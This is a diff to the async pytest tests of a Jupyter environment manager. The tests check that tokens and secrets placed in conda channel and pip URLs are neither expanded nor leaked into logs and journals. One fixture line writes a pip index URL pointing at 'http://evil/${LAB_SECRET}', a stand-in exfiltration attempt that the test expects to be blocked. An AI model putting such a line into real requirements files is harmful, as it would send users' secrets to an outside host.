@@ -7,14 +7,15 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from msgspec import structs
 
 from jupyter_envkernels.engine.export import export
+from jupyter_envkernels.engine.operations import JobRequest, PlanOnly, Rollback, Update
 from jupyter_envkernels.envs.catalog import Catalog
 from jupyter_envkernels.envs.inventory import read_inventory
 from jupyter_envkernels.errors import NotAllowed
 from jupyter_envkernels.jobs.manager import JobManager
-from jupyter_envkernels.jobs.requests import plan_request
-from jupyter_envkernels.models import CatalogOptions, Edit, EnvSpec, Job, JobRequest, Limits, LockedPackage
+from jupyter_envkernels.models import CatalogOptions, Edit, EnvSpec, Job, Limits, LockedPackage
 from tests.channel.server import Auth, ChannelServer
 
 from .conftest import Place, managing, over
@@ -72,9 +73,9 @@ async def test_a_token_in_a_channel(
     monkeypatch.setenv("CONDA_TOKEN", TOKEN)
     channel_server.auth = Auth(token=TOKEN)
     spec = EnvSpec("lesson", (f"{channel_server.url}/t/${{CONDA_TOKEN}}/main",), ("prio-demo",))
-    request = replace(place.create("lesson"), spec=spec)
+    request = structs.replace(place.create("lesson"), spec=spec)
     async with managing(place) as manager:
-        planned = await succeed(manager, plan_request(request))
+        planned = await succeed(manager, PlanOnly(request))
         plan = manager.journal(planned.id).plan()
         done = await over(manager, await manager.run(planned.id))
         assert done.state == "succeeded", done.message
@@ -91,13 +92,13 @@ async def test_a_secret_anywhere_in_a_channel(place: Place, hidden: Hidden, chan
     """Create, plan, update by a spec: the packages stay the same ones; the cache is an older one, which others read."""
     (place.folder / "cache" / "repodata").mkdir(parents=True)
     spec = EnvSpec("lesson", (channel.format(url=hidden.url),), ("prio-demo", "conflict-base=1"))
-    request = replace(place.create("lesson"), spec=spec)
+    request = structs.replace(place.create("lesson"), spec=spec)
     async with managing(place) as manager:
-        planned = await succeed(manager, plan_request(request))
+        planned = await succeed(manager, PlanOnly(request))
         job = await over(manager, await manager.run(planned.id))
         assert job.state == "succeeded", (job.message, manager.journal(job.id).log_file.read_text())
-        changed = replace(request, kind="update", spec=replace(spec, dependencies=("conflict-base=2",)))
-        update = await succeed(manager, plan_request(changed))
+        changed = Update("lesson", request.prefix, spec=replace(spec, dependencies=("conflict-base=2",)))
+        update = await succeed(manager, PlanOnly(changed))
         changes = [change.name for change in manager.journal(update.id).plan().changes]
         job = await over(manager, await manager.run(update.id))
         assert job.state == "succeeded", (job.message, manager.journal(job.id).log_file.read_text())
@@ -128,17 +129,21 @@ async def failed(manager: JobManager, request: JobRequest) -> str:
 async def test_what_an_environment_records_is_not_expanded(place: Place, hidden: Hidden) -> None:
     """Others may have made it, as the source of a clone; what is installed still is found in a history."""
     channel = f"{hidden.url}/${{LAB_PATH}}/main"
-    request = replace(place.create("lesson"), spec=EnvSpec("lesson", (channel,), ("prio-demo", "conflict-base=1")))
-    lesson = JobRequest("update", "lesson", request.prefix)
+    request = structs.replace(
+        place.create("lesson"), spec=EnvSpec("lesson", (channel,), ("prio-demo", "conflict-base=1"))
+    )
+    lesson = Update("lesson", request.prefix)
     async with managing(place) as manager:
         await succeed(manager, request)
-        added = await failed(manager, replace(lesson, edit=Edit(add=("same-build",))))
-        await succeed(manager, replace(lesson, spec=EnvSpec(None, (channel,), (f"{channel}::conflict-base=2",))))
-        line = await failed(manager, replace(lesson, spec=EnvSpec(None, (place.channel,), ("same-build",))))
+        added = await failed(manager, structs.replace(lesson, edit=Edit(add=("same-build",))))
+        await succeed(
+            manager, structs.replace(lesson, spec=EnvSpec(None, (channel,), (f"{channel}::conflict-base=2",)))
+        )
+        line = await failed(manager, structs.replace(lesson, spec=EnvSpec(None, (place.channel,), ("same-build",))))
         hidden.log.clear()
-        rolled_back = await failed(manager, replace(lesson, kind="rollback", revision=0))
+        rolled_back = await failed(manager, Rollback("lesson", request.prefix, revision=0))
         assert hidden.log == []
-        await succeed(manager, replace(lesson, spec=EnvSpec(None, (channel,), ("conflict-base=1",))))
+        await succeed(manager, structs.replace(lesson, spec=EnvSpec(None, (channel,), ("conflict-base=1",))))
     for told in (added, line, rolled_back):
         assert "variables are expanded only where a spec uses them." in told
     assert leaks(place.folder, SECRET, IN_URLS) == []
@@ -146,9 +151,9 @@ async def test_what_an_environment_records_is_not_expanded(place: Place, hidden:
 
 async def test_packages_by_their_urls(place: Place, hidden: Hidden) -> None:
     url = f"{hidden.url}/${{LAB_PATH}}/main/noarch/prio-demo-1.0-0.conda"
-    locked = replace(place.create("locked"), spec=EnvSpec(None, locked=(LockedPackage(url),)))
+    locked = structs.replace(place.create("locked"), spec=EnvSpec(None, locked=(LockedPackage(url),)))
     async with managing(place) as manager:
-        planned = await succeed(manager, plan_request(locked))
+        planned = await succeed(manager, PlanOnly(locked))
         job = await over(manager, await manager.run(planned.id))
         assert job.state == "succeeded", manager.journal(job.id).log_file.read_text()
         await succeed(manager, place.create("lines", url))
@@ -165,17 +170,18 @@ async def test_failures_name_the_variable(place: Place, hidden: Hidden, monkeypa
     channel = f"{hidden.url}/${{LAB_PATH}}"
     async with managing(place) as manager:
         told = await failed(
-            manager, replace(place.create("a"), spec=EnvSpec(None, (f"{channel}/main",), ("prio-demo",)))
+            manager, structs.replace(place.create("a"), spec=EnvSpec(None, (f"{channel}/main",), ("prio-demo",)))
         )
         assert f"The channel {channel}/main cannot be read: its server answers 503" in told
         told = await failed(
-            manager, replace(place.create("b"), spec=EnvSpec(None, (f"{channel}/absent",), ("prio-demo",)))
+            manager, structs.replace(place.create("b"), spec=EnvSpec(None, (f"{channel}/absent",), ("prio-demo",)))
         )
         assert f"The channel {channel}/absent cannot be read" in told
         hidden.reset()
         hidden.add_rule("[.]conda$", status=404)
         told = await failed(
-            manager, replace(place.create("c"), spec=EnvSpec(None, (f"{channel}/extra",), ("only-extra-nodep",)))
+            manager,
+            structs.replace(place.create("c"), spec=EnvSpec(None, (f"{channel}/extra",), ("only-extra-nodep",))),
         )
         assert f"{channel}/extra/noarch/only-extra-nodep" in told
     assert in_journals(place, SECRET, IN_URLS) == []
@@ -184,7 +190,7 @@ async def test_failures_name_the_variable(place: Place, hidden: Hidden, monkeypa
 async def test_variables_that_are_not_set(place: Place, channel_server: ChannelServer) -> None:
     spec = EnvSpec(None, (f"{channel_server.url}/${{LAB_NOWHERE}}/main",), ("prio-demo",))
     async with managing(place) as manager:
-        told = await failed(manager, replace(place.create("lesson"), spec=spec))
+        told = await failed(manager, structs.replace(place.create("lesson"), spec=spec))
     assert f"The channel {channel_server.url}/${{LAB_NOWHERE}}/main cannot be read" in told
     assert "Of these are not set, and stay as they are written: LAB_NOWHERE." in told
 
@@ -205,15 +211,17 @@ async def test_lines_of_pip(place: Place, hidden: Hidden, monkeypatch: pytest.Mo
     manager = JobManager(replace(options, engine=engine))
     await manager.start()
     try:
-        planned = await succeed(manager, plan_request(request))
+        planned = await succeed(manager, PlanOnly(request))
         (warning,) = (one for one in manager.journal(planned.id).plan().warnings if one.code.startswith("variables"))
         done = await over(manager, await manager.run(planned.id))
         assert done.state == "succeeded", manager.journal(done.id).log_file.read_text()
         (package,) = (one for one in read_inventory(request.prefix).packages if one.name == "envkernels-demo-pip")
         (place.folder / "reqs" / "second.txt").write_text(f"absent @ {index}/wheels/absent-1.0-py3-none-any.whl\n")
-        assert f"{index}/wheels/absent" in await failed(manager, replace(request, kind="update"))
+        assert f"{index}/wheels/absent" in await failed(
+            manager, Update("lesson", request.prefix, spec=request.spec, workdir=request.workdir)
+        )
         (place.folder / "reqs" / "limits.txt").write_text("--index-url http://evil/${LAB_SECRET}\n")
-        for again in (manager.submit(replace(request, prefix=place.envs / "third")), manager.run(planned.id)):
+        for again in (manager.submit(structs.replace(request, prefix=place.envs / "third")), manager.run(planned.id)):
             with pytest.raises(NotAllowed, match="LAB_SECRET"):
                 await again
     finally:
